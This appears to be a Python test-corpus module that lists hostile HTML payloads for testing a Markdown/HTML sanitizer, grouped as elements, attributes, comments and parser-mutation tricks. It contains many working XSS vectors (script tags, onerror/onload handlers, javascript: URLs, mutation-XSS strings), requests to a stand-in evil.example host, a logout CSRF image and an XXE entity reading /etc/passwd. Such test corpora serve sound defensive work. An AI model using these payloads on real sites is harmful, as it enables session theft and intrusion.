"""HTML that does something: elements, attributes, comments, and what parsers disagree about."""
# ruff: noqa: E501 - a payload is one line, however long

from tests.hostile.corpus.payload import payloads

RUN = "window.__ran=1"

ELEMENTS = payloads(
    "element",
    [
        f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script\n>{RUN}</script >", "<script src=//evil.example/x.js></script>",
        f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<img src=x onerror={RUN}>",
        f"<img src=x onerror='{RUN}'//", f"<image src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}//", f"<svg><script>{RUN}</script></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>", "<svg><use href='data:image/svg+xml,<svg id=x></svg>#x'/></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{RUN}><a>x</a></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>", "<svg><style>*{display:none}</style></svg>",
        f"<math><maction actiontype='statusline#' xlink:href='javascript:{RUN}'>x</maction></math>", f"<math href='javascript:{RUN}'>x</math>",
        "<iframe src=https://evil.example></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'>", f"<iframe src=javascript:{RUN}>",
        "<frameset><frame src=//evil.example></frameset>", f"<object data='data:text/html,<script>{RUN}</script>'></object>", "<embed src=//evil.example/x.swf>",
        "<applet code=x></applet>", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<meta name=referrer content=unsafe-url>",
        "<base href=https://evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/p>",
        "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example/b)}</style>", "<form action=https://evil.example><input name=q><button>Send</button></form>",
        "<form id=composer><textarea name=message>x</textarea></form>", "<button formaction=//evil.example>x</button>", "<input autofocus onfocus=" + RUN + ">",
        f"<select autofocus onfocus={RUN}><option>x</select>", f"<details open ontoggle={RUN}><summary>x</summary></details>", f"<marquee onstart={RUN}>x</marquee>",
        f"<video><source onerror={RUN}></video>", "<video poster=//evil.example/p.png></video>", f"<audio src=x onerror={RUN}></audio>", "<audio autoplay src=//evil.example/a.mp3></audio>",
        "<picture><source srcset=//evil.example/p.png><img src=x></picture>", "<img srcset='//evil.example/p.png 2x'>", "<img src=//evil.example/p.png>",
        "<img src=/accounts/logout/>", "<img src=/notes/attachments/1/ onload=" + RUN + ">", "<table background=//evil.example/b.png><td>x</table>",
        "<template><script>x</script></template>", "<slot name=x></slot>", "<portal src=//evil.example></portal>", "<dialog open>x</dialog>", "<div popover id=x>y</div>",
        f"<body onload={RUN}>", f"<html onclick={RUN}>", "<title>Signed out</title>", "<plaintext>", "<xmp><img src=x></xmp>", "<listing><b></listing>",
        "<noembed><img src=x></noembed>", "<noframes><img src=x></noframes>", f"<keygen autofocus onfocus={RUN}>", "<isindex action=//evil.example>", "<bgsound src=//evil.example/x>",
        "</div></div></article></main></body></html>", "</section><h1>Ours</h1>", "</blockquote></li></ul></div><p>outside", "<a href=/ ><a href=/admin/>x</a></a>",
        "<label for=question>Click</label>", "<area href=javascript:" + RUN + "><map name=x></map>", "<x-y onclick=" + RUN + ">x</x-y>", "<font color=red>x</font>", "<center>x</center>",
    ],
)  # fmt: skip
ATTRIBUTES = payloads(
    "attribute",
    [
        *(f'<p {name}="{RUN}">x</p>' for name in ("onclick", "onmouseover", "ONCLICK", "onpointerrawupdate", "onanimationend", "onbeforematch", "on\tclick", "onclick\x0c")),
        "<p style='position:fixed;inset:0'>x</p>", "<p style=\"background:url('//evil.example/b')\">x</p>", "<p style=x:expression(1)>x</p>", '<p style="a"\n\n{: id=x }>x',
        "<p id=composer class=composer>x</p>", "<a name=csrfmiddlewaretoken href=/>x</a>", "<p tabindex=0 accesskey=s contenteditable>x</p>", "<p hidden>x</p>", "<p inert>x</p>",
        "<a href=/ target=_top ping=//evil.example>x</a>", "<a href=/ download=x.exe>x</a>", "<a href=/ rel=opener target=_blank>x</a>", "<ol start=1 type=A reversed><li>x</ol>",
        "<ol start='1\" onclick=x'><li>x</ol>", "<ol start=-99999999999999999999><li>x</ol>", "<td colspan=99999>x</td>", "<p slot=x is=y part=z>x</p>", "<p dir=rtl lang=x>x</p>",
        "<p xml:base='javascript:1' xmlns:x=y x:z=1>x</p>", '<p "onclick=x">y</p>', "<p a=b/onclick=x>y</p>", "<p\x0bonclick=x>y</p>", "<p =\"onclick=x>y</p>", "<p `onclick=x`>y</p>",
        "<a title='\"><img src=x onerror=1>' href=/>x</a>", "<a title='--!><img src=x>' href=/>x</a>", "<a title='<!--><img src=x>-->' href=/>x</a>", '<span class="highlight composer k">x</span>',
        '<div class="highlight" data-x="y">x</div>', "<div class='notice error'>Your password is wrong</div>", "{: onclick=x }", "text {: .composer #cursor onclick=x }", "# Head {#cursor .x onclick=y}",
        "![x](/notes/attachments/1/){: onerror=x }", "<img src=/notes/attachments/1/../../../accounts/logout/>", "<img src='/notes/attachments/1/?x'>", "<img src='/notes/attachments/1/\n'>",
    ],
)  # fmt: skip
COMMENTS = payloads(
    "comment",
    [
        "<!-- x -->", "<!-- x --!><img src=x>-->", "<!--><img src=x>-->", "<!---><img src=x>-->", "<!----!><img src=x>-->", "<!-- <!-- --> <img src=x> -->", "<!-- x", "<!-", "<!>", "<!x>",
        "<!-- x -- ><img src=x>-->", "<!--[if IE]><script>x</script><![endif]-->", "<![CDATA[<img src=x>]]>", "<svg><![CDATA[><img src=x>]]></svg>", "<![CDATA[", "<?xml version='1.0'?>",
        "<?php echo 1 ?>", "<?x <img src=x>?>", "<?", "<?>", "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "</>", "</ x>", "</!-- x -->", "<//p>", "< p>", "<\np>", "<p<p>", "<p/=>",
        "<a <b>x</b>", "`<!--` a `-->` <b>x</b>", "```\n<!--\n```\n<img src=x>\n-->", "    <!--\n\ntext --> <img src=x>", "<!-- a\n\nb --> [1]", "<p>x<!-- \ue0001\ue001 --></p>",
    ],
)  # fmt: skip
MUTATIONS = payloads(
    "mutation",
    [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=x&gt;\">", "<math><mtext><table><mglyph><style><img src=x onerror=1>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=x>\">", "<noscript><p title=\"</noscript><img src=x onerror=1>\">", "<svg><p><style><g title=\"</style><img src=x>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x>", "<table><a href=/><table></a><img src=x></table>", "<select><template><img src=x></select>", "<p><svg><desc><p><img src=x>",
        "<textarea><img title='</textarea><img src=x>'>", "<title><img title='</title><img src=x>'>", "<style><img title='</style><img src=x>'>", "<xmp><p title='</xmp><img src=x>'>",
        "<iframe><p title='</iframe><img src=x>'>", "<noembed><p title='</noembed><img src=x>'>", "<math><annotation-xml encoding='text/html'><style><img src=x></style></math>",
        "<svg><title><style><img src=x></style></title></svg>", "<a><b></a></b><i><table></i><img src=x>", "<div><p><table><tr><div><td><form><td></form></table>", "<ruby><rt><svg><rp><img src=x>",
        "<b><p></b><a href=/><p></a>", "<a href='&#34;&gt;&lt;img src=x&gt;'>x</a>", "<a title='&lt;/a&gt;&lt;img src=x&gt;' href=/>x</a>", "<code>&lt;img src=x&gt;</code>", "<details><summary><details><summary><table><details>",
        "<li><ul></li></ul><p><li></p>", "<dl><dd><dt><dl><p></dl>", "<h1><h2><h3></h1><img src=x>", "<table><tr><td><table><caption><img src=x>", "<caption>x</caption><col><colgroup>", "<br></br><hr></hr></p></br>",
    ],
)  # fmt: skip
# As CommonMark wants attributes: else a tag is text to it, and to a browser a tag.
QUOTED = payloads(
    "element",
    [
        payload.text.replace(f"={RUN}", f'="{RUN}"')
        for payload in [*ELEMENTS, *ATTRIBUTES]
        if f"={RUN}" in payload.text
    ]
    + [
        '<a href="javascript:x" onclick="x">y</a>',
        '<img src="x" onerror="x">',
        "<img src='x' onerror='x' />",
        '<details open="open" ontoggle="x"><summary>y</summary></details>',
        '<p title="</p><img src=x>">y</p>',
        '<a href="/" title="&quot;><img src=x>">y</a>',
        "<a href='/' title='\"><img src=x>'>y</a>",
        '<ol start="1&quot; onclick=&quot;x"><li>y</li></ol>',
        '<img src="/notes/attachments/1/" alt="&quot; onerror=&quot;x">',
        '<img src="/notes/attachments/1/&#10;" alt="x">',
        '<img src="/notes/attachments/١/" alt="x">',
        '<a href="/&#9;/evil.example">y</a>',
        '<a href="&#9;//evil.example">y</a>',
        '<a href="java&#10;script:x">y</a>',
        '<a href="HTTPS://evil.example">y</a>',
        "<p>\n\n</div></div>\n\n<p>",
        "> <div>\n\n</div></blockquote></div>outside",
        "- <ul><li>\n\n</li></ul></ul></div>x",
        "| <td></table></div> | b |\n|---|---|\n| </td></tr></table> | d |",
        "<a href='/'>\n\n[x](/y)\n\n</a>",
        "<h1>\n\n# x\n\n</h1>",
        "<details><summary>\n\nx</details>y",
        "*<b>x*</b> **<i>y**</i>",
        "[<a href='/'>x](/y)</a>",
        '<pre>\n<img src="x">\n\n</pre><p>x',
        '<code><img src="x"></code>',
        '<script>\n\n<img src="x">\n\n</script><p>x',
        '<style>\n<img src="x">',
        '<svg>\n\n<a href="/">x</a>\n\n</svg>',
        "<table><tr><td>\n\n- x\n\n</td></tr></table>",
        "<li>x</li><td>y</td><dd>z</dd><summary>w</summary>",
    ],
)
QUOTED = [payload._replace(name=f"quoted-{payload.name}") for payload in QUOTED]
MARKUP = [*ELEMENTS, *QUOTED, *ATTRIBUTES, *COMMENTS, *MUTATIONS]
